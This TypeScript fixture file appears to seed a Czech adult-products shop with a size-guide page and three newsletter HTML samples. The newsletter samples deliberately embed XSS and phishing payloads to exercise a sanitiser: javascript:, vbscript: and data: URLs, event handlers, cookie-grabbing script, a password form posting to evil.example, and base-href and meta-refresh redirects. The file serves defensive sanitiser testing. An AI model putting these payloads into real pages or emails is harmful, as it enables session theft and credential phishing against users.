import { bold, bulletList, doc, heading, link, paragraph, table } from "./content-rich-text.ts";

/**
 * The fitting guide (/tabulka-velikosti) as a CMS page, and three infomails whose HTML is
 * what a mailing tool sends, hostile bits included, for the storefront's sanitiser.
 */

export const SIZE_GUIDE = {
  slug: "tabulka-velikosti",
  title: "Tabulka velikostí",
  translations: { sk: "Tabuľka veľkostí", de: "Größentabelle" },
  seoDescription:
    "Jak vybrat správnou velikost kondomů, erotického prádla a erekčních kroužků: tabulky a návod k měření.",
  content: doc(
    heading(1, "Tabulka velikostí"),
    paragraph(
      "Správná velikost je základ pohodlí i bezpečí. Změřte se krejčovským metrem podle návodu u každé tabulky a vyberte velikost, která vám sedí.",
    ),
    heading(2, "Kondomy podle nominální šířky"),
    paragraph(
      "Nominální šířka je šířka kondomu položeného naplocho v milimetrech. Vybírejte podle obvodu penisu ve ztopoření.",
    ),
    table([
      ["Nominální šířka", "Obvod ve ztopoření", "Průměr"],
      ["47 mm", "9–10,5 cm", "2,9–3,3 cm"],
      ["49 mm", "10–11 cm", "3,2–3,5 cm"],
      ["52 mm", "11–12 cm", "3,5–3,8 cm"],
      ["54 mm", "12–12,5 cm", "3,8–4,0 cm"],
      ["57 mm", "12,5–13,5 cm", "4,0–4,3 cm"],
      ["60 mm", "13,5–14,5 cm", "4,3–4,6 cm"],
      ["64 mm", "14,5–15,5 cm", "4,6–4,9 cm"],
      ["69 mm", "od 15,5 cm", "od 4,9 cm"],
    ]),
    heading(3, "Jak měřit"),
    bulletList([
      "Měřte ve ztopoření, v nejširším místě, obvykle uprostřed délky.",
      "Metr přiložte volně, nestahujte ho.",
      "Jste-li mezi dvěma velikostmi, zvolte menší: kondom musí dobře držet.",
    ]),
    heading(2, "Erotické prádlo"),
    paragraph("Míry jsou v centimetrech a platí pro prádlo, košilky, body i župany."),
    table([
      ["Velikost", "EU", "Prsa", "Pas", "Boky"],
      ["S", "36", "82–86", "62–66", "88–92"],
      ["M", "38", "87–92", "67–72", "93–98"],
      ["L", "40", "93–98", "73–78", "99–104"],
      ["XL", "42", "99–104", "79–84", "105–110"],
      ["XXL", "44", "105–112", "85–92", "111–118"],
    ]),
    heading(3, "Jak měřit"),
    bulletList([
      "Prsa: přes nejvyšší místo hrudníku, metr vede vodorovně pod pažemi.",
      "Pas: v nejužším místě trupu, obvykle nad pupíkem.",
      "Boky: v nejširším místě přes hýždě, stůjte spatnými chodidly.",
      "Padne-li každá míra do jiné velikosti, řiďte se tou největší.",
    ]),
    heading(2, "Erekční kroužky podle vnitřního průměru"),
    table([
      ["Velikost", "Vnitřní průměr", "Vnitřní obvod"],
      ["S", "35 mm", "11,0 cm"],
      ["M", "40 mm", "12,6 cm"],
      ["L", "45 mm", "14,1 cm"],
      ["XL", "50 mm", "15,7 cm"],
    ]),
    heading(3, "Jak měřit"),
    bulletList([
      "Změřte obvod u kořene penisu v klidu a vydělte ho 3,14: vyjde vnitřní průměr.",
      "Nejste-li si jistí, začněte větším nebo nastavitelným kroužkem.",
      "Kroužek nenoste déle než 30 minut a při bolesti nebo necitlivosti ho hned sundejte.",
    ]),
    paragraph(
      bold("Nevíte si rady?"),
      " Napište nám přes stránku ",
      link("Kontakt", "/kontakt"),
      ", rádi s výběrem poradíme.",
    ),
  ),
};

export interface SeedInfomail {
  slug: string;
  title: string;
  /** ISO 8601 in UTC. */
  created: string;
  perex: string;
  /** Image keys the HTML names as `{{cdn}}/image/w600h300/{key}`. */
  images: Array<{ key: string; title: string }>;
  html: string;
}

/**
 * `{{cdn}}` stands for the CMS's own origin, which the resolver fills in: a real CMS sends
 * absolute addresses on its image host.
 */
export const INFOMAILS: Array<SeedInfomail> = [
  {
    slug: "jarni-vyprodej",
    title: "Jarní výprodej: až 40 % dolů",
    created: "2025-03-20T08:00:00Z",
    perex: "Jaro je tu a s ním slevy na vibrátory, masážní oleje i prádlo.",
    images: [{ key: "infomail/jarni-vyprodej", title: "Jarní výprodej" }],
    html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Jarní výprodej</title>
<style>body{background:url(javascript:alert('css'))} .x{width:expression(alert('ie'))}</style>
<script>document.cookie="stolen="+document.cookie</script></head>
<body onload="alert('onload')">
<table width="100%" cellpadding="0" cellspacing="0" role="presentation" style="background:url('javascript:alert(1)')">
<tr><td align="center">
<img src="{{cdn}}/image/w600h300/infomail/jarni-vyprodej" alt="Jarní výprodej" width="600" height="300">
<h1 style="color:expression(alert('h1'))">Jarní výprodej je tady</h1>
<p>Milí zákazníci, na jaře se vyplatí <strong>dopřát si</strong>. Až do neděle máte slevu
až <b>40 %</b> na vybrané vibrátory, masážní oleje a erotické prádlo.</p>
<p><a href="https://www.example.cz/akce-a-slevy" target="_blank">Prohlédnout slevy</a></p>
<p><a href="javascript:alert('link')">Vyzvednout dárek</a></p>
<img src="x" onerror="alert('onerror')" alt="">
<iframe src="https://evil.example/frame" width="1" height="1"></iframe>
</td></tr>
<tr><td><p style="font-size:12px">Zboží posíláme v diskrétním balení bez označení obsahu.</p></td></tr>
</table>
</body></html>`,
  },
  {
    slug: "novinky-v-kondomech",
    title: "Novinky v kondomech a jak vybrat velikost",
    created: "2025-04-15T08:00:00Z",
    perex: "Nové tenké kondomy a rychlý návod, jak najít tu správnou velikost.",
    images: [{ key: "infomail/novinky-v-kondomech", title: "Novinky v kondomech" }],
    html: `<div class="mail">
<img src="{{cdn}}/image/w600h300/infomail/novinky-v-kondomech" alt="Nové kondomy">
<h2>Tenčí než kdy dřív</h2>
<p>Do nabídky jsme přidali <em>ultratenké kondomy</em> v pěti velikostech. Nevíte, kterou
zvolit? Podívejte se do naší <a href="https://www.example.cz/tabulka-velikosti">tabulky velikostí</a>.</p>
<ul><li>nominální šířka od 47 do 69 mm</li><li>bez latexu i s latexem</li><li>balení po 3, 12 a 36 kusech</li></ul>
<table border="1" cellpadding="4"><thead><tr><th>Obvod</th><th>Velikost</th></tr></thead>
<tbody><tr><td>11–12 cm</td><td>52 mm</td></tr><tr><td>12,5–13,5 cm</td><td>57 mm</td></tr></tbody></table>
<p><a href="vbscript:msgbox('x')">Klikněte zde</a> <a href="data:text/html,<script>alert(1)</script>">nebo zde</a></p>
<p><img src="http://tracker.example/pixel.gif?u=123" width="1" height="1" alt=""></p>
<form action="https://evil.example/steal"><input name="password"><button>Odeslat</button></form>
<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/x.swf">
<svg onload="alert('svg')"><circle r="10"></circle></svg>
</div>`,
  },
  {
    slug: "darek-ke-kazde-objednavce",
    title: "Dárek ke každé objednávce",
    created: "2025-05-28T08:00:00Z",
    perex: "Tento týden přibalíme ke každé objednávce masážní svíčku zdarma.",
    images: [{ key: "infomail/darek-ke-kazde-objednavce", title: "Dárek zdarma" }],
    html: `<table role="presentation" width="100%"><tr><td>
<img src="{{cdn}}/image/w600h300/infomail/darek-ke-kazde-objednavce" alt="Masážní svíčka jako dárek">
<h2>Masážní svíčka zdarma</h2>
<p>Do neděle přibalíme ke každé objednávce <strong>masážní svíčku s vůní vanilky</strong>.
Stačí nakoupit, dárek vložíme do balíčku sami.</p>
<p>Máte dotaz? Napište nám na <a href="mailto:podpora@example.cz">podpora@example.cz</a>.</p>
<p><a href="\\\\evil.example/phish">Přihlaste se</a> <a href="//evil.example/phish">ke svému účtu</a>
<a href=" jav&#x09;ascript:alert('tab')">zde</a></p>
<p onclick="alert('click')" onmouseover="alert('over')">Krásné dny přeje tým obchodu.</p>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/evil.css">
</td></tr></table>`,
  },
];
